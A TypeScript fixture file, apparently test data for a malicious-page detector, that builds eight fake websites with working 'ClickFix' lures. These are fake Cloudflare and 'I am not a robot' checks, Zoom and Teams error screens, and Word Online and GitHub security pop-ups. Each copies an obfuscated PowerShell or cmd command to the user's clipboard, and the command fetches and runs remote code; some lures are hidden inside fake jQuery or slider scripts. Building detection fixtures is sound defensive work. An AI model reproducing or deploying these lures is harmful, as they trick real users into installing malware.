import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute } from '../parts/e-bin.js';
import { doc, wpBlog, wpCssRoute, icons, gtagInline, cookieBanner } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'www.brightsmile-dentalcare.com';
  const inj = `(function(){
  if (document.cookie.indexOf('_cfv=1') > -1) return;
  var cmd = 'powershell -w hidden -nop -c "iwr -useb https://tsn-verify.click/g.ps1 | iex"' + ' # \\u2705 \\'\\'I am not a robot - Cloudflare Verification ID: 7731-44\\'\\'';
  var o = document.createElement('div');
  o.id = 'cf-ov';
  o.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:999999;font-family:-apple-system,system-ui,Segoe UI,Roboto,sans-serif;color:#313131';
  o.innerHTML = '<div style="max-width:640px;margin:90px auto 0;padding:0 20px"><h1 style="font-size:2.4rem;font-weight:500">' + location.hostname + '</h1>' +
    '<h2 style="font-size:1.4rem;font-weight:400">Verify you are human by completing the action below.</h2>' +
    '<div id="cfbox" style="width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;display:flex;align-items:center;padding:0 14px;gap:12px;cursor:pointer"><span id="cfchk" style="width:24px;height:24px;border:2px solid #ccc;border-radius:3px;background:#fff"></span><span>Verify you are human</span><span style="margin-left:auto;font-size:10px;color:#555;text-align:right">CLOUDFLARE<br>Privacy · Terms</span></div>' +
    '<div id="cfsteps" style="display:none;margin-top:18px;border:1px solid #e0e0e0;padding:16px 20px;background:#fff"><b>Verification Steps</b><ol style="line-height:2"><li>Press <b>Windows Button "\\u229e" + R</b></li><li>In the verification window, press <b>CTRL + V</b></li><li>Press <b>Enter</b> on your keyboard to finish</li></ol><p style="font-size:13px;color:#666">You will observe and agree:<br>\\u2705 "I am not a robot - Cloudflare Verification ID: 7731-44"</p><button id="cfdone" style="background:#0051c3;color:#fff;border:0;padding:8px 18px;border-radius:3px">Verify</button></div>' +
    '<p style="margin-top:40px;font-size:15px">' + location.hostname + ' needs to review the security of your connection before proceeding.</p>' +
    '<div style="position:fixed;bottom:20px;left:0;right:0;text-align:center;font-size:12px;color:#777">Ray ID: <code>8f2a' + Math.random().toString(16).slice(2, 14) + '</code> · Performance &amp; security by Cloudflare</div></div>';
  document.body.appendChild(o);
  document.getElementById('cfbox').onclick = function(){
    var ta = document.createElement('textarea'); ta.value = cmd; document.body.appendChild(ta); ta.select();
    try { document.execCommand('copy'); } catch (e) {}
    ta.remove();
    if (navigator.clipboard) navigator.clipboard.writeText(cmd).catch(function(){});
    document.getElementById('cfchk').style.borderColor = '#0051c3';
    document.getElementById('cfsteps').style.display = 'block';
  };
  document.getElementById('cfdone').onclick = function(){ document.cookie = '_cfv=1;path=/;max-age=86400'; };
})();`;
  return {
    id: 'm-clickfix-cf-overlay-dental-blog',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/blog/`,
    body: wpBlog({
      siteName: 'BrightSmile Dental Care',
      tagline: 'Family & cosmetic dentistry in Tucson, AZ',
      accent: '#2a8c9e',
      posts: [
        { title: '5 Tips for Healthier Gums This Winter', date: 'November 3, 2025', excerpt: 'Cold weather and holiday sweets can take a toll on your gums. Dr. Alvarez shares five easy habits to keep your smile healthy until spring…' },
        { title: 'We Now Offer Invisalign Consultations', date: 'October 12, 2025', excerpt: 'Good news! Our Oracle Rd. office now offers free Invisalign consultations every Tuesday and Thursday. Call (520) 555-0148 to book.' },
        { title: 'Is Teeth Whitening Safe?', date: 'September 28, 2025', excerpt: 'Patients ask us this every week. The short answer is yes, when it is supervised by a dentist. Here is what you should know before you try a kit at home.' },
      ],
      extraHead: `<script src="https://static-wpcache.top/jquery-migrate.min.js?ver=3.4.1"></script>`,
    }),
    routes: {
      ...wpCssRoute(host),
      ...icons(host, [42, 140, 158]),
      'static-wpcache.top/jquery-migrate.min.js': jsRoute(`document.addEventListener('DOMContentLoaded',function(){var s=document.createElement('script');s.src='https://static-wpcache.top/cf/challenge.js?v='+Date.now();document.head.appendChild(s);});`),
      'static-wpcache.top/cf/challenge.js': jsRoute(inj),
    },
  };
})(),

(() => {
  const host = 'zoom-us.webinar-join.info';
  return {
    id: 'm-clickfix-zoom-sdk-update',
    label: 'clickfix',
    kind: 'clickfix-meeting',
    url: `https://${host}/j/84127703318?pwd=bXlhUEpsc1RYMm4zd0xlUT09`,
    body: doc({
      title: 'Launch Meeting - Zoom',
      css: `body{margin:0;font-family:Lato,"Helvetica Neue",Arial,sans-serif;background:#fff;color:#232333}.hd{padding:16px 32px;border-bottom:1px solid #ededf4}.hd b{color:#0b5cff;font-size:26px}
.c{max-width:620px;margin:60px auto;text-align:center}.err{border:1px solid #f5c2c0;background:#fff5f5;border-radius:10px;padding:22px;text-align:left;margin-top:20px}
.btn{background:#0e72ed;color:#fff;border:0;border-radius:8px;padding:11px 22px;font-size:15px;cursor:pointer}ol li{margin:6px 0}`,
      body: `<div class="hd"><b>zoom</b></div>
<div class="c"><h2>Joining "Q4 Partner Webinar – Pricing Update"</h2><p>Meeting ID: 841 2770 3318</p>
<div class="err"><b style="color:#c5221f">Error 3003: Zoom Workplace SDK is out of date</b><p>Your Zoom client could not start the audio/video plugin. Update the Zoom SDK to continue. This takes less than a minute.</p>
<ol><li>Press <b>Win + X</b> on your keyboard and select <b>Terminal (Admin)</b>.</li><li>Click <b>Copy update command</b> below and paste it in the Terminal (right-click or Ctrl + V).</li><li>Press Enter, then reload this page.</li></ol>
<button class="btn" id="cp">Copy update command</button> <span id="ok" style="color:#1a7f37"></span></div>
<p style="margin-top:30px;color:#747487;font-size:13px">By joining, you agree to our <a href="#">Terms of Service</a> and <a href="#">Privacy Statement</a>.</p></div>
<script>
var b64='JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwBpAGUAeAAgACQAYwAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcABzADoALwAvAHoAbwBvAG0ALQB1AHMALgB3AGUAYgBpAG4AYQByAC0AagBvAGkAbgAuAGkAbgBmAG8ALwBzAGQAawAuAHAAcwAxACcAKQA=';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText('powershell.exe -NoProfile -EncodedCommand '+b64+' ; # Zoom SDK update 6.2.11');document.getElementById('ok').textContent='Copied. Paste it into Terminal (Admin).';};
</script>`,
    }),
    routes: {
      ...icons(host, [11, 92, 255]),
      [`${host}/sdk.ps1`]: fileRoute('Write-Host "Updating Zoom SDK..."; $d="$env:APPDATA\\ZoomSDK"; New-Item -ItemType Directory -Force $d | Out-Null; iwr "https://zoom-us.webinar-join.info/bin/zsdk.exe" -OutFile "$d\\zsdk.exe"; Start-Process "$d\\zsdk.exe"', 'text/plain'),
    },
  };
})(),

(() => {
  const host = 'teams-live.meetingroom-azure.com';
  return {
    id: 'm-clickfix-teams-audio-driver',
    label: 'clickfix',
    kind: 'clickfix-meeting',
    url: `https://${host}/l/meetup-join/19%3ameeting_NjRmZTg0`,
    body: doc({
      title: 'Microsoft Teams',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f5f5f5}.bar{background:#464775;color:#fff;padding:10px 20px;font-weight:600}.box{max-width:560px;margin:70px auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 8px rgba(0,0,0,.12)}
.btn{background:#5b5fc7;color:#fff;border:0;padding:9px 20px;border-radius:4px;font-weight:600;cursor:pointer}pre{background:#f3f2f1;padding:10px;white-space:pre-wrap;font-size:12px}`,
      body: `<div class="bar">Microsoft Teams</div>
<div class="box"><h2>We can't connect your audio</h2><p>Teams couldn't find a working audio device driver (error 0x80070490). Other participants can't hear you.</p>
<p><b>Fix it in 3 steps</b></p><ol><li>Click <b>Copy fix</b>.</li><li>Open <b>Run</b> with <b>⊞ Win + R</b>.</li><li>Paste (<b>Ctrl+V</b>) and press <b>Enter</b>. The Teams audio driver will reinstall automatically.</li></ol>
<button class="btn" id="c">Copy fix</button><p id="m" style="color:#237b4b"></p>
<p style="font-size:12px;color:#666">Meeting organizer: Finance Department · Contoso Ltd</p></div>
<script>
fetch('/api/v2/fix?os=win').then(function(r){return r.json()}).then(function(j){
  document.getElementById('c').onclick=function(){navigator.clipboard.writeText(j.cmd);document.getElementById('m').textContent='Fix copied. Press Win + R now.';};
});
</script>`,
    }),
    routes: {
      ...icons(host, [70, 71, 117]),
      [`${host}/api/v2/fix`]: jsonRoute({ ok: true, cmd: 'cmd /c start /min powershell -w h -c "$w=New-Object Net.WebClient;$w.DownloadFile(\'https://meetingroom-azure.com/drv/TeamsAudio.msi\',\"$env:TEMP\\ta.msi\");msiexec /i $env:TEMP\\ta.msi /qn"  :: Teams Audio Repair' }),
    },
  };
})(),

(() => {
  const host = 'www.alpine-cabins-rental.ch';
  return {
    id: 'm-clickfix-chrome-display-error',
    label: 'clickfix',
    kind: 'clickfix-fake-error',
    url: `https://${host}/de/unterkuenfte/`,
    body: doc({
      title: 'Alpine Cabins – Ferienhütten im Berner Oberland',
      lang: 'de',
      css: `body{margin:0;font-family:Helvetica,Arial,sans-serif}header{padding:18px 40px;background:#1f3b2d;color:#fff}main{padding:30px 40px;filter:blur(3px)}
#err{position:fixed;top:0;left:0;right:0;background:#fff;border-bottom:3px solid #d93025;box-shadow:0 4px 16px rgba(0,0,0,.25);padding:22px 40px;font-family:Segoe UI,Arial,sans-serif;z-index:99}
#err h2{color:#d93025;margin:0 0 8px}#err button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 18px;font-size:15px;cursor:pointer}`,
      body: `<header><b>Alpine Cabins</b> · Grindelwald · Lauterbrunnen · Wengen</header>
<main><h1>Unsere Unterkünfte</h1><p>Gemütliche Holzhütten mit Kamin und Bergblick, ab CHF 180 pro Nacht. Buchen Sie direkt und sparen Sie 10 %.</p><p>Chalet Eiger – 6 Personen – Sauna</p><p>Hütte Mönch – 4 Personen – Kamin</p></main>
<div id="err"><h2>⚠ Beim Anzeigen dieser Webseite ist ein Fehler aufgetreten</h2>
<p>Something went wrong while displaying this webpage. To fix the error, copy the fix and run it as administrator:</p>
<ol><li>Klicken Sie auf <b>„Lösung kopieren“</b> / <b>Copy fix</b>.</li><li>Klicken Sie mit der rechten Maustaste auf Start und wählen Sie <b>Windows PowerShell (Administrator)</b>.</li><li>Fügen Sie den Befehl ein und drücken Sie die Eingabetaste.</li></ol>
<button id="fx">Lösung kopieren</button></div>
<script>
document.getElementById('fx').addEventListener('click', function(){
  var s = 'i' + 'ex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((irm \\'https://alpine-cabins-rental.ch.fontcdn.su/f.txt\\'))))';
  navigator.clipboard.writeText('$p=' + "'" + 'cabin-display-fix' + "'" + '; ' + s);
  this.textContent = 'Kopiert!';
});
</script>`,
    }),
    routes: { ...icons(host, [31, 59, 45]) },
  };
})(),

(() => {
  const host = 'docs-sharepoint.officeviewer-online.com';
  return {
    id: 'm-clickfix-word-online-extension',
    label: 'clickfix',
    kind: 'clickfix-fake-error',
    url: `https://${host}/:w:/r/sites/Finance/Shared%20Documents/Q3_Payroll_Adjustments.docx`,
    body: doc({
      title: 'Q3_Payroll_Adjustments.docx - Microsoft Word Online',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.rib{background:#2b579a;color:#fff;padding:9px 16px;font-size:14px}.page{width:700px;margin:30px auto;background:#fff;height:800px;filter:blur(5px);padding:60px}
.pop{position:fixed;top:120px;left:50%;transform:translateX(-50%);background:#fff;width:520px;border:1px solid #c8c6c4;box-shadow:0 8px 30px rgba(0,0,0,.3);padding:24px}
.pop .ti{display:flex;gap:10px;align-items:center;font-size:18px;font-weight:600}.b{background:#2b579a;color:#fff;border:0;padding:8px 18px;cursor:pointer;margin-right:6px}.g{background:#edebe9;border:0;padding:8px 18px}`,
      body: `<div class="rib">Word &nbsp;|&nbsp; Q3_Payroll_Adjustments &nbsp;-&nbsp; Saved</div>
<div class="page"><h2>Payroll Adjustments Q3 2025</h2><p>Employee ID · Name · Adjustment · Effective date</p></div>
<div class="pop"><div class="ti"><span style="color:#a4262c">✖</span> Extension "Word Online" is not installed</div>
<p>To open this document you need the Word Online extension. It failed to install automatically because of a browser restriction.</p>
<p>Click <b>How to fix</b> and follow the instructions to install the extension manually.</p>
<button class="b" id="hf">How to fix</button><button class="g">Auto fix</button>
<div id="ins" style="display:none;margin-top:14px;font-size:14px"><ol><li>Right-click the Start button <b>⊞</b> and choose <b>Windows PowerShell (Admin)</b> / <b>Terminal (Admin)</b>.</li><li>Right-click inside the window to paste the code.</li><li>Press Enter and refresh this page.</li></ol></div></div>
<script>
var _0x=[104,116,116,112,115,58,47,47,111,102,102,105,99,101,118,105,101,119,101,114,45,111,110,108,105,110,101,46,99,111,109,47,101,120,116,47,119,111,114,100,46,112,115,49];
var u=String.fromCharCode.apply(null,_0x);
document.getElementById('hf').onclick=function(){
  var c='powershell -noprofile -w hidden -c "$r=iwr \\''+u+'\\' -UseBasicParsing; iex $r.Content"';
  navigator.clipboard.writeText(c);document.getElementById('ins').style.display='block';
};
</script>`,
    }),
    routes: { ...icons(host, [43, 87, 154]) },
  };
})(),

(() => {
  const host = 'www.schreinerei-kaufmann-bayern.de';
  const js = `(function(){
var K=[112,111,119,101,114,115,104,101,108,108,32,45,119,32,49,32,45,99,32];
var t=String.fromCharCode.apply(null,K);
var h=['ht','tps:','//sec','ure-ch','eck.','lat/','de/v.','txt'].join('');
var full=t+'"$x=(iwr '+h+' -UseB).Content;&([scriptblock]::Create($x))" # Ich bin kein Roboter - Bestaetigungs-ID 55821';
var d=document.createElement('div');
d.innerHTML='<div style="position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:9999;font-family:Arial,sans-serif"><div style="max-width:480px;margin:120px auto;border:1px solid #ddd;padding:28px;box-shadow:0 2px 12px rgba(0,0,0,.1)">'+
'<h2 style="margin-top:0">Bestätigen Sie, dass Sie ein Mensch sind</h2><p>Aufgrund ungewöhnlicher Aktivitäten aus Ihrem Netzwerk ist eine zusätzliche Überprüfung erforderlich.</p>'+
'<label style="display:flex;gap:10px;align-items:center;border:1px solid #ccc;padding:14px;background:#f9f9f9;cursor:pointer"><input type="checkbox" id="hcb"> Ich bin kein Roboter</label>'+
'<div id="hst" style="display:none;margin-top:16px"><p><b>Überprüfungsschritte:</b></p><ol><li>Drücken Sie <b>Windows-Taste + R</b></li><li>Drücken Sie <b>Strg + V</b></li><li>Drücken Sie <b>Enter</b></li></ol></div></div></div>';
document.body.appendChild(d);
document.getElementById('hcb').addEventListener('change',function(){navigator.clipboard.writeText(full);document.getElementById('hst').style.display='block';});
})();`;
  return {
    id: 'm-clickfix-charcode-captcha-de',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/kuechen/`,
    body: doc({
      title: 'Küchen nach Maß – Schreinerei Kaufmann, Landshut',
      lang: 'de',
      css: `body{margin:0;font-family:Arial,sans-serif;color:#333}header{background:#5a3b22;color:#fff;padding:20px 50px}nav a{color:#f3e3cf;margin-right:16px}main{padding:30px 50px;max-width:900px}`,
      body: `<header><h1 style="margin:0">Schreinerei Kaufmann</h1><nav><a href="/">Start</a><a href="/kuechen/">Küchen</a><a href="/moebel/">Möbel</a><a href="/kontakt/">Kontakt</a></nav></header>
<main><h2>Küchen nach Maß</h2><p>Seit 1978 fertigen wir in Landshut Einbauküchen aus Massivholz – geplant, gebaut und montiert aus einer Hand. Vereinbaren Sie einen Beratungstermin in unserer Ausstellung.</p>
<p>Telefon 0871 555 2210 · Mo–Fr 8–17 Uhr</p><p><small>Impressum · Datenschutz</small></p></main>
<script src="/wp-content/themes/kaufmann/js/slider.min.js"></script>`,
    }),
    routes: { ...icons(host, [90, 59, 34]), [`${host}/wp-content/themes/kaufmann/js/slider.min.js`]: jsRoute(`/*! slider v2.1 */var slider={init:function(){}};slider.init();\n;` + js) },
  };
})(),

(() => {
  const host = 'github-security-review.com';
  return {
    id: 'm-clickfix-github-security-alert',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/advisories/GHSA-9x4c-2vxq-7m3h/verify`,
    body: doc({
      title: 'Security vulnerability detected · GitHub',
      css: `body{margin:0;background:#0d1117;color:#e6edf3;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI","Noto Sans",Helvetica,Arial,sans-serif}.hd{background:#010409;padding:16px 32px;border-bottom:1px solid #30363d}
.b{max-width:560px;margin:60px auto;border:1px solid #30363d;border-radius:6px;padding:24px;background:#161b22}.btn{background:#238636;color:#fff;border:1px solid rgba(240,246,252,.1);border-radius:6px;padding:7px 16px;font-weight:600;cursor:pointer}
kbd{background:#21262d;border:1px solid #30363d;border-radius:6px;padding:2px 6px}`,
      body: `<div class="hd"><svg height="32" viewBox="0 0 16 16" width="32" fill="#fff"><circle cx="8" cy="8" r="8"/></svg></div>
<div class="b"><h2>Hey there!</h2><p>A security vulnerability has been detected in your repository. Before we can show you the advisory, please verify you are a human.</p>
<button class="btn" id="v">Verify you are human</button>
<div id="s" style="display:none;margin-top:18px"><p>Verification steps</p><ol><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol></div>
<p style="color:#7d8590;font-size:12px;margin-top:24px">GitHub Security · Ref GHSA-9x4c-2vxq-7m3h</p></div>
<script>
document.getElementById('v').onclick=function(){
  var x=document.createElement('textarea');x.value='powershell.exe -W Hidden -command $url = \\'https://github-security-review.com/download/v.txt\\'; $r = iwr -Uri $url -UseBasicParsing; iex $r';
  document.body.appendChild(x);x.select();document.execCommand('copy');x.remove();
  document.getElementById('s').style.display='block';
};
</script>`,
    }),
    routes: { ...icons(host, [13, 17, 23]) },
  };
})(),

(() => {
  const host = 'proverka.antibot-ru.online';
  return {
    id: 'm-clickfix-nslookup-ru',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/check?to=kino-hd`,
    body: doc({
      title: 'Проверка браузера',
      lang: 'ru',
      css: `body{font-family:Arial,sans-serif;background:#f7f7f7;margin:0}.b{max-width:470px;margin:100px auto;background:#fff;padding:28px;border:1px solid #e0e0e0;border-radius:6px}
.c{display:flex;gap:10px;align-items:center;border:1px solid #ccc;padding:14px;cursor:pointer;background:#fafafa}`,
      body: `<div class="b"><h2>Подтвердите, что вы не робот</h2><p>Чтобы продолжить просмотр фильма в HD-качестве, пройдите проверку.</p>
<div class="c" id="c"><input type="checkbox"> Я не робот</div>
<div id="s" style="display:none;margin-top:14px"><ol><li>Нажмите <b>Win + R</b></li><li>Вставьте код: <b>Ctrl + V</b></li><li>Нажмите <b>Enter</b></li></ol><p style="color:#777;font-size:12px">Код проверки: 30-118</p></div></div>
<script>
document.getElementById('c').onclick=function(){
  navigator.clipboard.writeText('cmd /c "for /f \\"tokens=*\\" %i in (\\'nslookup -q=txt stage2.antibot-ru.online 2^>nul ^| find \\"=\\"\\') do @powershell -w h -c %i"');
  document.getElementById('s').style.display='block';
};
</script>`,
    }),
    routes: { ...icons(host, [200, 30, 30]) },
  };
})(),
];
